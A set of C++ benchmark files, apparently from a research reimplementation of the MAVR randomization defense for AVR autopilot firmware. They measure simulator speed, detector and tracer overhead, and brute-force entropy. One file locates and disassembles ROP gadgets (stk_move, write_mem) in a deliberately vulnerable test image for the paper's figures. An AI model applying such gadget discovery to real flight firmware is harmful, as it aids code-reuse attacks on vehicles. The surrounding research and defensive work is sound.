// The bench doubles as a correctness gate: before timing, each firmware
// runs a fixed cycle budget under tier and interpreter and the full
// architectural state (cycles, retired, interrupts, PC, SP, SREG, every
// data-space byte, device counters) is compared. A divergence prints the
// mismatching fields and exits non-zero, so CI catches a tier that is
// fast but wrong. `--json` emits the same numbers machine-readably.
#include <algorithm>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstring>
#include <string>

#include "bench_util.hpp"
#include "sim/board.hpp"

namespace {

using namespace mavr;

constexpr std::uint64_t kWarmupCycles = 1'000'000;
constexpr std::uint64_t kBudgetCycles = 200'000'000;
constexpr std::uint64_t kIdentityCycles = 8'000'000;
constexpr int kReps = 3;

enum class Mode { kTier, kInterp, kTraced };

double measure_mips(const firmware::Firmware& fw, Mode mode) {
  double best = 0.0;
  for (int rep = 0; rep < kReps; ++rep) {
    sim::Board board;
    avr::Tracer null_tracer;  // hook bodies are no-ops: measures hook cost
    board.cpu().set_exec_tier(mode == Mode::kTier);
    if (mode == Mode::kTraced) board.cpu().set_tracer(&null_tracer);
    board.flash_image(fw.image.bytes);
    board.run_cycles(kWarmupCycles);  // warm the decode/translation caches
    const std::uint64_t retired0 = board.cpu().instructions_retired();
    const auto t0 = std::chrono::steady_clock::now();
    board.run_cycles(kBudgetCycles);
    const double secs =
        std::chrono::duration<double>(std::chrono::steady_clock::now() - t0)
            .count();
    const double mips =
        static_cast<double>(board.cpu().instructions_retired() - retired0) /
        secs / 1e6;
    best = std::max(best, mips);
  }
  return best;
}

/// Runs `fw` for a fixed budget with the tier on and off and compares the
/// complete architectural state. Returns true when bit-identical; prints
/// every differing field otherwise.
bool check_bit_identity(const char* tag, const firmware::Firmware& fw) {
  sim::Board tier_board;
  tier_board.cpu().set_exec_tier(true);
  tier_board.flash_image(fw.image.bytes);
  tier_board.run_cycles(kIdentityCycles);

  sim::Board ref_board;
  ref_board.cpu().set_exec_tier(false);
  ref_board.flash_image(fw.image.bytes);
  ref_board.run_cycles(kIdentityCycles);

  const avr::Cpu& a = tier_board.cpu();
  const avr::Cpu& b = ref_board.cpu();
  bool same = true;
  const auto cmp = [&](const char* what, std::uint64_t x, std::uint64_t y) {
    if (x != y) {
      std::fprintf(stderr, "  %s: %s diverged (tier %llu, interp %llu)\n",
                   tag, what, static_cast<unsigned long long>(x),
                   static_cast<unsigned long long>(y));
      same = false;
    }
  };
  cmp("cycles", a.cycles(), b.cycles());
  cmp("retired", a.instructions_retired(), b.instructions_retired());
  cmp("interrupts", a.interrupts_taken(), b.interrupts_taken());
  cmp("pc", a.pc(), b.pc());
  cmp("sp", a.sp(), b.sp());
  cmp("sreg", a.sreg(), b.sreg());
  cmp("timer fires", tier_board.tick_timer().fires(),
      ref_board.tick_timer().fires());
  cmp("feed writes", tier_board.feed_line().write_count(),
      ref_board.feed_line().write_count());
  const std::uint32_t n = a.data().size();
  if (std::memcmp(a.data().raw_data(), b.data().raw_data(), n) != 0) {
    for (std::uint32_t addr = 0; addr < n; ++addr) {
      if (a.data().raw(addr) != b.data().raw(addr)) {
        std::fprintf(stderr,
                     "  %s: data[0x%04X] diverged (tier %02X, interp %02X)\n",
                     tag, addr, a.data().raw(addr), b.data().raw(addr));
        same = false;
        break;  // first byte is enough to localise the bug
      }
    }
  }
  return same;
}

struct Row {
  const char* tag;
  double tier_mips;
  double interp_mips;
  double traced_mips;
  std::uint64_t translations;
  std::uint64_t invalidations;
  std::uint64_t fused_pairs;
  bool bit_identical;
};

Row measure(const char* tag, const firmware::Firmware& fw) {
  Row row;
  row.tag = tag;
  row.bit_identical = check_bit_identity(tag, fw);
  row.tier_mips = measure_mips(fw, Mode::kTier);
  row.interp_mips = measure_mips(fw, Mode::kInterp);
  row.traced_mips = measure_mips(fw, Mode::kTraced);
  // Translation-plane counters from a dedicated run so the reps above
  // (three boards each) do not triple-count.
  sim::Board board;
  board.cpu().set_exec_tier(true);
  board.flash_image(fw.image.bytes);
  board.run_cycles(kWarmupCycles);
  const avr::TierStats& stats = board.cpu().tier_stats();
  row.translations = stats.blocks_translated;
  row.invalidations = stats.invalidations;
  row.fused_pairs = stats.fused_pairs;
  return row;
}

void print_text(const Row& row) {
  std::printf(
      "  %-12s tier %8.1f MIPS   interp %8.1f MIPS   traced %8.1f MIPS\n"
      "  %-12s speedup %5.2fx   blocks %llu   fused pairs %llu   "
      "invalidations %llu   bit-identical %s\n",
      row.tag, row.tier_mips, row.interp_mips, row.traced_mips, "",
      row.tier_mips / row.interp_mips,
      static_cast<unsigned long long>(row.translations),
      static_cast<unsigned long long>(row.fused_pairs),
      static_cast<unsigned long long>(row.invalidations),
      row.bit_identical ? "yes" : "NO");
}

void print_json(const Row& row, bool last) {
  std::printf(
      "  {\"firmware\": \"%s\", \"tier_mips\": %.1f, \"interp_mips\": %.1f, "
      "\"traced_mips\": %.1f, \"translations\": %llu, "
      "\"invalidations\": %llu, \"fused_pairs\": %llu, "
      "\"bit_identical\": %s}%s\n",
      row.tag, row.tier_mips, row.interp_mips, row.traced_mips,
      static_cast<unsigned long long>(row.translations),
      static_cast<unsigned long long>(row.invalidations),
      static_cast<unsigned long long>(row.fused_pairs),
      row.bit_identical ? "true" : "false", last ? "" : ",");
}

}  // namespace

int main(int argc, char** argv) {
  bool json = false;
  for (int i = 1; i < argc; ++i) {
    if (std::string(argv[i]) == "--json") json = true;
  }

  const Row rows[] = {
      measure("testapp", bench::built(firmware::testapp(true))),
      measure("arduplane", bench::built(firmware::arduplane(true))),
  };

  if (json) {
    std::printf("[\n");
    print_json(rows[0], false);
    print_json(rows[1], true);
    std::printf("]\n");
  } else {
    bench::heading("Execution throughput (best of 3, 200M-cycle budget)");
    for (const Row& row : rows) print_text(row);
  }

  // Gate: a tier that diverges from the interpreter fails the bench run.
  for (const Row& row : rows) {
    if (!row.bit_identical) return 1;
  }
  return 0;
}
