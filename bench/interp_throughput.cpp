// Interpreter throughput: retired MIPS on the test application and the
// arduplane flight firmware, with and without an attached (no-op) tracer.
//
// This is the single-core number the campaign engine's trials/s scales
// from, and the headline metric of the interpreter performance
// architecture (DESIGN.md §11): dense-table I/O dispatch, event-driven
// peripheral clocking and register-resident hot counters. Each
// configuration reports the best of three repetitions so a scheduler
// hiccup does not masquerade as a regression.
#include <algorithm>
#include <chrono>
#include <cstdint>
#include <cstdio>

#include "bench_util.hpp"
#include "sim/board.hpp"

namespace {

using namespace mavr;

constexpr std::uint64_t kWarmupCycles = 1'000'000;
constexpr std::uint64_t kBudgetCycles = 200'000'000;
constexpr int kReps = 3;

double measure_mips(const firmware::Firmware& fw, bool traced) {
  double best = 0.0;
  for (int rep = 0; rep < kReps; ++rep) {
    sim::Board board;
    avr::Tracer null_tracer;  // hook bodies are no-ops: measures hook cost
    if (traced) board.cpu().set_tracer(&null_tracer);
    board.flash_image(fw.image.bytes);
    board.run_cycles(kWarmupCycles);  // warm the decode cache
    const std::uint64_t retired0 = board.cpu().instructions_retired();
    const auto t0 = std::chrono::steady_clock::now();
    board.run_cycles(kBudgetCycles);
    const double secs =
        std::chrono::duration<double>(std::chrono::steady_clock::now() - t0)
            .count();
    const double mips =
        static_cast<double>(board.cpu().instructions_retired() - retired0) /
        secs / 1e6;
    best = std::max(best, mips);
  }
  return best;
}

void report(const char* tag, const firmware::Firmware& fw) {
  const double untraced = measure_mips(fw, false);
  const double traced = measure_mips(fw, true);
  std::printf("  %-12s untraced %8.1f MIPS   traced %8.1f MIPS   hook cost %4.1f%%\n",
              tag, untraced, traced, (1.0 - traced / untraced) * 100.0);
}

}  // namespace

int main() {
  bench::heading("Interpreter throughput (best of 3, 200M-cycle budget)");
  report("testapp", bench::built(firmware::testapp(true)));
  report("arduplane", bench::built(firmware::arduplane(true)));
  return 0;
}
