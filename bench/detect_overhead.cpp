// Runtime cost of the intrusion-detection engine on the interpreter hot
// loop (DESIGN.md §10): the same clean flight simulated untraced, then
// with the engine armed under each single detector and the full set. The
// spread between BM_Untraced and BM_AllDetectors is the on-board price of
// the detection layer the paper argues randomization makes unnecessary —
// the number the detect-sweep campaign's overhead column contextualizes.
#include <benchmark/benchmark.h>

#include "detect/engine.hpp"
#include "firmware/generator.hpp"
#include "firmware/profile.hpp"
#include "sim/board.hpp"

namespace {

using namespace mavr;

const firmware::Firmware& test_fw() {
  static firmware::Firmware fw = firmware::generate(
      firmware::testapp(true), toolchain::ToolchainOptions::mavr());
  return fw;
}

void run_slice(benchmark::State& state, sim::Board& board) {
  board.run_cycles(100'000);
  if (board.cpu().state() != avr::CpuState::Running) {
    state.SkipWithError("board died");
  }
}

void sim_rate(benchmark::State& state) {
  state.counters["sim_MHz"] = benchmark::Counter(
      static_cast<double>(state.iterations()) * 100'000,
      benchmark::Counter::kIsRate, benchmark::Counter::OneK::kIs1000);
}

void bench_with_detectors(benchmark::State& state, unsigned detectors) {
  sim::Board board;
  board.flash_image(test_fw().image.bytes);
  detect::EngineConfig config;
  config.detectors = detectors;
  detect::Engine engine(config);
  engine.arm(board.cpu());
  engine.rebuild(test_fw().image.bytes, test_fw().image.text_end);
  board.run_cycles(200'000);  // boot
  for (auto _ : state) run_slice(state, board);
  sim_rate(state);
  if (engine.tripped()) state.SkipWithError("false positive on clean flight");
}

void BM_Untraced(benchmark::State& state) {
  sim::Board board;
  board.flash_image(test_fw().image.bytes);
  board.run_cycles(200'000);
  for (auto _ : state) run_slice(state, board);
  sim_rate(state);
}
BENCHMARK(BM_Untraced)->Unit(benchmark::kMicrosecond);

void BM_EngineNoDetectors(benchmark::State& state) {
  // The armed engine with every detector masked off: the cost of the
  // instrumented interpreter instantiation plus the mask checks.
  bench_with_detectors(state, detect::kDetectNone);
}
BENCHMARK(BM_EngineNoDetectors)->Unit(benchmark::kMicrosecond);

void BM_Canary(benchmark::State& state) {
  bench_with_detectors(state, detect::kDetectCanary);
}
BENCHMARK(BM_Canary)->Unit(benchmark::kMicrosecond);

void BM_ShadowStack(benchmark::State& state) {
  bench_with_detectors(state, detect::kDetectShadowStack);
}
BENCHMARK(BM_ShadowStack)->Unit(benchmark::kMicrosecond);

void BM_SpBounds(benchmark::State& state) {
  bench_with_detectors(state, detect::kDetectSpBounds);
}
BENCHMARK(BM_SpBounds)->Unit(benchmark::kMicrosecond);

void BM_ReturnCfi(benchmark::State& state) {
  bench_with_detectors(state, detect::kDetectReturnCfi);
}
BENCHMARK(BM_ReturnCfi)->Unit(benchmark::kMicrosecond);

void BM_AllDetectors(benchmark::State& state) {
  bench_with_detectors(state, detect::kDetectAll);
}
BENCHMARK(BM_AllDetectors)->Unit(benchmark::kMicrosecond);

}  // namespace

BENCHMARK_MAIN();
