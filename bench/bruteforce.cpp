// Regenerates the security analysis (paper §V-D, §VII-A1, §VIII-B):
// brute-force effort against fixed vs. re-randomized layouts, and the
// randomization entropy of each evaluated application, with Monte-Carlo
// validation at enumerable sizes.
#include <cstdio>

#include "bench_util.hpp"
#include "campaign/scenarios.hpp"
#include "defense/bruteforce.hpp"
#include "defense/patcher.hpp"
#include "toolchain/image.hpp"

int main() {
  using namespace mavr;
  using namespace mavr::defense;

  bench::heading("Brute-force effort and entropy (paper §V-D, §VIII-B)");
  std::printf("%-14s %-10s %-16s %-24s %-24s\n", "Application", "symbols",
              "entropy (bits)", "E[attempts] fixed", "E[attempts] MAVR");
  for (const firmware::AppProfile& profile : bench::paper_profiles()) {
    const toolchain::Image& image = bench::built(profile).image;
    const toolchain::SymbolBlob blob =
        toolchain::SymbolBlob::from_image(image);
    const std::uint32_t n =
        static_cast<std::uint32_t>(movable_count(blob));
    const double bits = entropy_bits(n);
    // n! overflows doubles far beyond n=170: report as powers of two.
    std::printf("%-14s %-10u %-16.0f 2^%-21.0f 2^%-21.0f\n",
                profile.name.c_str(), n, bits, bits - 1.0, bits);
  }
  std::printf("\npaper: ArduRover's 800 symbols -> 6567 bits "
              "(ours: %.0f bits for 800)\n", entropy_bits(800));

  bench::heading("Monte-Carlo validation at enumerable sizes");
  // Runs through the parallel campaign engine: the aggregate is
  // bit-identical for any jobs count, so the table below is reproducible
  // on any machine regardless of core count.
  std::printf("%-4s %-8s %-22s %-22s %-22s %-22s\n", "n", "n!",
              "fixed: simulated", "fixed: (N+1)/2", "MAVR: simulated",
              "MAVR: N");
  for (std::uint32_t n : {3u, 4u, 5u, 6u}) {
    campaign::CampaignConfig config;
    config.trials = 3000;
    config.jobs = 4;
    config.seed = 0xB00 + n;
    config.n_functions = n;
    const double n_perms = permutation_count(n);
    config.scenario = campaign::Scenario::kBruteForceFixed;
    const auto fixed = campaign::run_campaign(config);
    config.scenario = campaign::Scenario::kBruteForceRerand;
    const auto moving = campaign::run_campaign(config);
    std::printf("%-4u %-8.0f %-22.2f %-22.2f %-22.2f %-22.2f\n", n, n_perms,
                fixed.mean_attempts, expected_attempts_fixed(n_perms),
                moving.mean_attempts,
                expected_attempts_rerandomized(n_perms));
  }
  std::printf("\nMAVR's re-randomize-on-failure policy doubles the expected "
              "effort and removes\nthe attacker's ability to eliminate "
              "candidates (paper §V-D: (n!+n!)/2 = n!).\n");
  return 0;
}
