// Campaign-engine scaling: trials/sec at 1/2/4/8 workers, plus a check
// that the aggregates are bit-identical at every worker count (the
// engine's determinism contract).
//
// Workload: the re-randomized brute-force model at n=6 — each trial runs
// a geometric series of unbiased Rng draws (E[draws] = 720), so the work
// is CPU-bound and embarrassingly parallel. Speedup is bounded by the
// physical cores of the machine running the bench; the determinism check
// holds everywhere.
#include <chrono>
#include <cstdio>
#include <cstring>
#include <thread>

#include "bench_util.hpp"
#include "campaign/scenarios.hpp"

int main() {
  using namespace mavr;
  bench::heading("Campaign engine scaling (trials/sec by worker count)");

  campaign::CampaignConfig config;
  config.scenario = campaign::Scenario::kBruteForceRerand;
  config.n_functions = 6;
  config.trials = 20'000;
  config.seed = 0xCA4;

  const unsigned hw = std::thread::hardware_concurrency();
  std::printf("workload: %llu trials of %s (n=%u), hardware threads: %u\n\n",
              static_cast<unsigned long long>(config.trials),
              campaign::scenario_name(config.scenario), config.n_functions,
              hw);
  std::printf("%-8s %-12s %-14s %-10s %-12s\n", "jobs", "wall (s)",
              "trials/sec", "speedup", "mean match");

  double base_s = 0;
  campaign::CampaignStats reference;
  for (unsigned jobs : {1u, 2u, 4u, 8u}) {
    config.jobs = jobs;
    const auto t0 = std::chrono::steady_clock::now();
    const campaign::CampaignStats stats = campaign::run_campaign(config);
    const double wall_s =
        std::chrono::duration<double>(std::chrono::steady_clock::now() - t0)
            .count();
    if (jobs == 1) {
      base_s = wall_s;
      reference = stats;
    }
    // Bitwise comparison: determinism means *equality*, not closeness.
    const bool identical =
        std::memcmp(&stats.mean_attempts, &reference.mean_attempts,
                    sizeof stats.mean_attempts) == 0 &&
        std::memcmp(&stats.p99_attempts, &reference.p99_attempts,
                    sizeof stats.p99_attempts) == 0 &&
        stats.successes == reference.successes &&
        stats.max_attempts == reference.max_attempts;
    std::printf("%-8u %-12.3f %-14.0f %-10.2f %-12s\n", jobs, wall_s,
                static_cast<double>(config.trials) / wall_s,
                base_s / wall_s, identical ? "bit-exact" : "MISMATCH (!)");
    if (!identical) return 1;
  }
  std::printf("\nspeedup ceiling is min(jobs, physical cores); the aggregate "
              "is the same bits\nat every worker count (chunked merge + "
              "per-trial forked Rng streams).\n");
  return 0;
}
