// Regenerates Fig. 2 (paper §II-C): the MAVLink packet structure, shown by
// encoding a real HEARTBEAT and annotating each byte.
#include <cstdio>

#include "bench_util.hpp"
#include "mavlink/mavlink.hpp"

int main() {
  using namespace mavr;
  bench::heading("Fig. 2 — MAVLink packet structure");

  mavlink::Heartbeat hb;
  const mavlink::Packet packet = hb.to_packet(/*sysid=*/255, /*seq=*/42);
  const support::Bytes bytes = mavlink::encode(packet);

  const char* fields[] = {
      "State magic number (1 byte)",
      "Length (1 byte)",
      "ID of message sender (1 byte)",
      "Packet Sequence # (1 byte)",
      "ID of message sender component (1 byte)",
      "ID of message in payload (1 byte)",
  };
  for (std::size_t i = 0; i < 6; ++i) {
    std::printf("  %-42s = 0x%02X\n", fields[i], bytes[i]);
  }
  std::printf("  %-42s = %zu bytes\n", "Message (<255 bytes)",
              packet.payload.size());
  std::printf("  %-42s = 0x%02X 0x%02X (CRC-16/X.25)\n",
              "Checksum (2 bytes)", bytes[bytes.size() - 2],
              bytes[bytes.size() - 1]);
  std::printf("\ntotal packet length: %zu bytes "
              "(paper: minimum 17 = 6 header + 9 payload + 2 checksum)\n",
              bytes.size());

  // Round-trip through the parser.
  mavlink::Parser parser;
  const auto decoded = parser.push(bytes);
  std::printf("parser round-trip: %s\n",
              decoded.size() == 1 ? "ok" : "FAILED");
  return 0;
}
