// Regenerates Figs. 4 and 5 (paper §IV-D): disassembled listings of the
// stk_move and write_mem gadgets as discovered in the vulnerable test
// application's binary.
#include <cstdio>

#include "attack/attacks.hpp"
#include "bench_util.hpp"
#include "toolchain/disasm.hpp"

namespace {

void print_listing(const mavr::toolchain::Image& image, std::uint32_t start,
                   std::uint32_t end) {
  const auto lines = mavr::toolchain::disassemble(
      std::span(image.bytes).subspan(start, end - start), start);
  std::printf("%s", mavr::toolchain::format_listing(lines).c_str());
}

}  // namespace

int main() {
  using namespace mavr;
  const firmware::Firmware& fw = bench::built(firmware::arduplane(true));
  const attack::AttackPlan plan = attack::analyze(fw.image);

  bench::heading("Fig. 4 — stk_move gadget");
  {
    const attack::StkMoveGadget& g = plan.stk;
    // out SPH / out SREG / out SPL / pops / ret:
    const std::uint32_t end = g.entry_byte_addr + 2 * (3 + static_cast<std::uint32_t>(g.pops.size()) + 1);
    const toolchain::Symbol* host =
        fw.image.function_containing(g.entry_byte_addr);
    std::printf("found in the epilogue of %s (paper found its instance at "
                "0x5d64):\n\n",
                host != nullptr ? host->name.c_str() : "?");
    print_listing(fw.image, g.entry_byte_addr, end);
    std::printf("\n%u stk_move gadgets available in this image.\n",
                plan.census.stk_move_gadgets);
  }

  bench::heading("Fig. 5 — write_mem_gadget");
  {
    const attack::WriteMemGadget& g = plan.wm;
    const std::uint32_t end = g.store_entry_byte_addr +
                              2 * (3 + static_cast<std::uint32_t>(g.pops.size()) + 1);
    const toolchain::Symbol* host =
        fw.image.function_containing(g.store_entry_byte_addr);
    std::printf("found in the store/restore tail of %s (paper found its "
                "instance at 0x1b284):\n\n",
                host != nullptr ? host->name.c_str() : "?");
    print_listing(fw.image, g.store_entry_byte_addr, end);
    std::printf("\npop entry (chain re-entry point): 0x%x\n",
                g.pop_entry_byte_addr);
    std::printf("%u write_mem gadgets available in this image.\n",
                plan.census.write_mem_gadgets);
  }
  return 0;
}
