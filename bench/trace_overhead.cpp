// Tracer overhead on the interpreter hot loop: the same firmware run
// untraced (the single null-pointer branch), under each concrete sink, and
// under the full Session. The untraced number must stay within a few
// percent of BM_CpuSimulation in micro_bench — that is the zero-cost-when-
// disabled contract of the observability layer.
#include <benchmark/benchmark.h>

#include "detect/engine.hpp"
#include "firmware/generator.hpp"
#include "firmware/profile.hpp"
#include "sim/board.hpp"
#include "trace/session.hpp"

namespace {

using namespace mavr;

const firmware::Firmware& test_fw() {
  static firmware::Firmware fw = firmware::generate(
      firmware::testapp(true), toolchain::ToolchainOptions::mavr());
  return fw;
}

void run_slice(benchmark::State& state, sim::Board& board) {
  board.run_cycles(100'000);
  if (board.cpu().state() != avr::CpuState::Running) {
    state.SkipWithError("board died");
  }
}

void sim_rate(benchmark::State& state) {
  state.counters["sim_MHz"] = benchmark::Counter(
      static_cast<double>(state.iterations()) * 100'000,
      benchmark::Counter::kIsRate, benchmark::Counter::OneK::kIs1000);
}

void BM_Untraced(benchmark::State& state) {
  sim::Board board;
  board.flash_image(test_fw().image.bytes);
  board.run_cycles(200'000);  // boot
  for (auto _ : state) run_slice(state, board);
  sim_rate(state);
}
BENCHMARK(BM_Untraced)->Unit(benchmark::kMicrosecond);

void BM_NullTracer(benchmark::State& state) {
  // An attached tracer whose hooks are all the empty defaults: measures the
  // cost of the instrumented interpreter instantiation itself.
  sim::Board board;
  board.flash_image(test_fw().image.bytes);
  board.run_cycles(200'000);
  avr::Tracer null_tracer;
  board.cpu().set_tracer(&null_tracer);
  for (auto _ : state) run_slice(state, board);
  sim_rate(state);
}
BENCHMARK(BM_NullTracer)->Unit(benchmark::kMicrosecond);

void BM_RingTraceFlow(benchmark::State& state) {
  // Control-flow events only (default mask) into the bounded ring.
  sim::Board board;
  board.flash_image(test_fw().image.bytes);
  board.run_cycles(200'000);
  trace::ExecutionTrace trace;
  board.cpu().set_tracer(&trace);
  for (auto _ : state) run_slice(state, board);
  sim_rate(state);
}
BENCHMARK(BM_RingTraceFlow)->Unit(benchmark::kMicrosecond);

void BM_RingTraceAll(benchmark::State& state) {
  // Full firehose: every retire/load/store recorded.
  sim::Board board;
  board.flash_image(test_fw().image.bytes);
  board.run_cycles(200'000);
  trace::ExecutionTrace trace(std::size_t{1} << 16, trace::kAllEvents);
  board.cpu().set_tracer(&trace);
  for (auto _ : state) run_slice(state, board);
  sim_rate(state);
}
BENCHMARK(BM_RingTraceAll)->Unit(benchmark::kMicrosecond);

void BM_Profiler(benchmark::State& state) {
  sim::Board board;
  board.flash_image(test_fw().image.bytes);
  board.run_cycles(200'000);
  trace::Profiler profiler(test_fw().image);
  board.cpu().set_tracer(&profiler);
  for (auto _ : state) run_slice(state, board);
  sim_rate(state);
}
BENCHMARK(BM_Profiler)->Unit(benchmark::kMicrosecond);

void BM_Watchpoints(benchmark::State& state) {
  sim::Board board;
  board.flash_image(test_fw().image.bytes);
  board.run_cycles(200'000);
  trace::Watchpoints watch;
  watch.watch_sp(0x2100, 0x21FF, trace::SpWatchMode::Outside, "stack");
  board.cpu().set_tracer(&watch);
  for (auto _ : state) run_slice(state, board);
  sim_rate(state);
}
BENCHMARK(BM_Watchpoints)->Unit(benchmark::kMicrosecond);

void BM_Detectors(benchmark::State& state) {
  // The full intrusion-detection engine (DESIGN.md §10) on the same hooks:
  // separates tracer-only cost from tracer+detector cost (detect_overhead
  // sweeps the individual detectors).
  sim::Board board;
  board.flash_image(test_fw().image.bytes);
  board.run_cycles(200'000);
  detect::Engine engine;
  engine.arm(board.cpu());
  engine.rebuild(test_fw().image.bytes, test_fw().image.text_end);
  for (auto _ : state) run_slice(state, board);
  sim_rate(state);
}
BENCHMARK(BM_Detectors)->Unit(benchmark::kMicrosecond);

void BM_FullSession(benchmark::State& state) {
  // Everything at once, plus the UART tap: the mavr-trace configuration.
  sim::Board board;
  board.flash_image(test_fw().image.bytes);
  board.run_cycles(200'000);
  trace::Session session(test_fw().image);
  session.watchpoints().watch_sp(0x2100, 0x21FF,
                                 trace::SpWatchMode::Outside, "stack");
  session.attach(board.cpu(), &board.telemetry());
  for (auto _ : state) run_slice(state, board);
  sim_rate(state);
}
BENCHMARK(BM_FullSession)->Unit(benchmark::kMicrosecond);

}  // namespace

BENCHMARK_MAIN();
