// Regenerates Table II (paper §VII-B1): MAVR startup overhead — the time
// the master processor needs to randomize the binary and program the
// application processor through its 115200-baud serial bootloader
// (≈11.5 bytes/ms → transfer-dominated), plus the paper's production-PCB
// projection where a mega-baud link makes internal-flash page programming
// the bottleneck (~4 s).
#include <algorithm>
#include <cstdio>

#include "bench_util.hpp"
#include "defense/external_flash.hpp"
#include "defense/master.hpp"
#include "defense/preprocess.hpp"
#include "sim/board.hpp"

int main() {
  using namespace mavr;
  bench::heading("Table II — MAVR startup overhead");
  std::printf("%-14s %-12s %-12s %s\n", "Application", "Time (ms)",
              "(paper)", "production-PCB projection (ms)");

  const double paper[] = {19209, 21206, 15412};
  std::vector<double> times;
  int i = 0;
  for (const firmware::AppProfile& profile : bench::paper_profiles()) {
    const firmware::Firmware& fw = bench::built(profile);

    // Prototype configuration: 115200 baud link.
    defense::ExternalFlash flash;
    sim::Board board;
    defense::MasterConfig cfg;
    cfg.seed = 7;
    defense::MasterProcessor master(flash, board, cfg);
    master.host_upload_hex(defense::preprocess_to_hex(fw.image));
    master.boot();
    const double ms = master.last_startup()->total_ms;
    times.push_back(ms);

    // Production configuration: 2 Mbaud link, flash becomes the limit.
    defense::ExternalFlash flash2;
    sim::Board board2;
    defense::MasterConfig fast = cfg;
    fast.serial_baud = 2'000'000;
    defense::MasterProcessor master2(flash2, board2, fast);
    master2.host_upload_hex(defense::preprocess_to_hex(fw.image));
    master2.boot();

    std::printf("%-14s %-12.0f %-12.0f %.0f\n", profile.name.c_str(), ms,
                paper[i++], master2.last_startup()->total_ms);
  }

  std::vector<double> sorted = times;
  std::sort(sorted.begin(), sorted.end());
  std::printf("\naverage: %.0f ms (paper: 18609)\n",
              (times[0] + times[1] + times[2]) / 3.0);
  std::printf("median:  %.0f ms (paper: 19209)\n", sorted[1]);
  std::printf("\npaper's conservative production estimate: ~4000 ms "
              "(bottleneck: internal flash write)\n");
  return 0;
}
