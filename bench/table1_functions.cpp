// Regenerates Table I (paper §VII-A1): number of function symbols in each
// autopilot application — the `n` of the n! brute-force argument.
#include <algorithm>
#include <cstdio>

#include "bench_util.hpp"

int main() {
  using namespace mavr;
  bench::heading("Table I — Number of functions");
  std::printf("%-14s %-20s %-10s\n", "Application", "Number of Functions",
              "(paper)");

  const std::uint32_t paper[] = {917, 1030, 800};
  std::vector<std::size_t> counts;
  int i = 0;
  for (const firmware::AppProfile& profile : bench::paper_profiles()) {
    const std::size_t n = bench::built(profile).image.function_count();
    counts.push_back(n);
    std::printf("%-14s %-20zu %-10u\n", profile.name.c_str(), n, paper[i++]);
  }

  std::vector<std::size_t> sorted = counts;
  std::sort(sorted.begin(), sorted.end());
  const double avg =
      static_cast<double>(counts[0] + counts[1] + counts[2]) / 3.0;
  std::printf("\naverage symbols: %.0f (paper: 915)\n", avg);
  std::printf("median symbols:  %zu (paper: 917)\n", sorted[1]);
  return 0;
}
