// Ablation for the paper's §V-C randomization-frequency trade-off: how the
// boot schedule spends the application processor's 10,000-cycle flash
// endurance, and what the software-only alternative (§VIII-A: one fixed
// permutation for the device's lifetime) costs in security.
#include <cstdio>

#include "bench_util.hpp"
#include "defense/bruteforce.hpp"
#include "defense/external_flash.hpp"
#include "defense/master.hpp"
#include "defense/preprocess.hpp"
#include "firmware/profile.hpp"
#include "sim/board.hpp"

int main() {
  using namespace mavr;
  bench::heading("Ablation — randomization frequency vs. flash endurance "
                 "(paper §V-C)");

  const firmware::Firmware fw = firmware::generate(
      firmware::testapp(false), toolchain::ToolchainOptions::mavr());
  const std::string hex = defense::preprocess_to_hex(fw.image);

  std::printf("%-22s %-16s %-22s %-28s\n", "schedule", "boots run",
              "flash cycles spent", "lifetime at 2 boots/day");
  for (std::uint32_t every_n : {1u, 5u, 20u, 100u}) {
    defense::ExternalFlash flash;
    sim::Board board;
    defense::MasterConfig cfg;
    cfg.randomize_every_n_boots = every_n;
    defense::MasterProcessor master(flash, board, cfg);
    master.host_upload_hex(hex);
    const int boots = 200;
    for (int i = 0; i < boots; ++i) master.boot();
    const std::uint32_t spent = board.flash_write_cycles();
    // Endurance 10,000 cycles; each randomizing boot costs `spent/boots`.
    const double per_boot = static_cast<double>(spent) / boots;
    const double lifetime_days =
        10'000.0 / (per_boot * 2.0);  // two boots per day
    std::printf("every %-3u boot(s)      %-16d %-22u %.0f days (%.1f years)\n",
                every_n, boots, spent, lifetime_days, lifetime_days / 365.0);
  }
  std::printf("\nrandomizing every boot exhausts the 10,000-cycle endurance "
              "in ~%.1f years at two\nboots/day — why the paper schedules "
              "randomization and reflashes on attack only.\n",
              10'000.0 / 2.0 / 365.0);

  bench::heading("Ablation — software-only defense (paper §VIII-A)");
  const double n_bits = defense::entropy_bits(917);
  std::printf("software-only (fixed permutation): expected brute-force "
              "effort 2^%.0f attempts,\n  but every failed attempt leaks "
              "(candidate eliminated) and a crashed board needs a\n  "
              "power cycle mid-flight to recover — not fault tolerant.\n",
              n_bits - 1.0);
  std::printf("MAVR (hardware + re-randomize):    expected effort 2^%.0f "
              "attempts, no leakage,\n  automatic in-flight recovery via "
              "the master processor.\n", n_bits);
  return 0;
}
