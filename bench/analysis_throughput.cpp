// Analysis-plane throughput: whole-image static analysis (CFG + dataflow +
// gadget ranking + policy derivation, DESIGN.md §15) on a fleet of
// rerandomized images, cold versus content-addressed-cache warm.
//
// The cache key is canonical_function_digest() — position-independent per
// function — so every rerandomized layout of the same program should hit
// the cache function-by-function and skip straight to the cheap
// whole-image passes. This bench pins that claim with numbers: images/s
// cold (fresh cache per image) vs cached (one warm-up analysis, shared
// cache), the speedup, and a bit-identity check that the cached run of a
// permuted image reproduces the cold run's report_text() byte for byte.
//
// Output is one JSON object per profile (machine-readable, single line)
// so CI can assert on speedup and bit_identical without parsing prose.
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <string>
#include <vector>

#include "analysis/analyze.hpp"
#include "bench_util.hpp"
#include "defense/patcher.hpp"
#include "support/rng.hpp"
#include "toolchain/image.hpp"

namespace {

using namespace mavr;

constexpr int kVariants = 8;  ///< rerandomized layouts per profile
constexpr int kReps = 3;      ///< best-of, like the other timing benches

struct Variant {
  support::Bytes image;
  toolchain::SymbolBlob blob;  ///< blob order preserved, addresses permuted
};

std::vector<Variant> make_variants(const firmware::Firmware& fw,
                                   const toolchain::SymbolBlob& blob) {
  support::Rng rng(0x5eed'0aa1u);
  std::vector<Variant> variants;
  for (int i = 0; i < kVariants; ++i) {
    const defense::RandomizeResult result =
        defense::randomize_image(fw.image.bytes, blob, rng);
    Variant v;
    v.image = result.image;
    v.blob = blob;
    v.blob.function_addrs = result.new_addrs;  // blob order, NOT ascending
    variants.push_back(std::move(v));
  }
  return variants;
}

double best_images_per_sec(int reps, int images, const auto& run_once) {
  double best = 0.0;
  for (int rep = 0; rep < reps; ++rep) {
    const auto t0 = std::chrono::steady_clock::now();
    run_once();
    const double secs =
